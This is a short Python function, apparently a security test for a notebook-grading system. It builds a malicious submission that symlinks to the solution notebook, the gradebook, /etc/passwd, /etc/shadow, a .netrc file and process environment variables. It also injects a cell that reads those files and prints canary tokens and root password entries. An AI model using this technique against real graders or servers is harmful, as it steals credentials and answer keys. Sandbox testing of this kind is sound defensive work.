# Puts symbolic links to the solution, the gradebook and the system beside the notebook, and prints what is behind them.
def submission(folder, release):
    import nbformat

    root = folder.parents[3]
    for name, target in (
        ("solution.ipynb", root / "solutions" / "01-target" / "target.ipynb"),
        ("book.db", root / "grading" / "gradebook.db"),
        ("passwd", "/etc/passwd"),
        ("shadow", "/etc/shadow"),
        ("netrc", "/mnt/home/.netrc"),
        ("root", "/"),
        ("up", "../../.."),
        ("environ", "/proc/self/environ"),
    ):
        (folder / name).symlink_to(target)
    cell = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "biggest")
    cell.source = (
        "import os, re\nfor name in os.listdir():\n    try:\n"
        "        print(name, re.findall(rb'can[a]ry-[a-z]+-[0-9a-f]{16}|root:[^:]*:', open(name, 'rb').read()))\n"
        "    except OSError as error:\n        print(error)\n"
        "for top, _, names in os.walk('.', followlinks=False):\n    print(top, names)\n"
    )
    nbformat.write(release, folder / "target.ipynb")
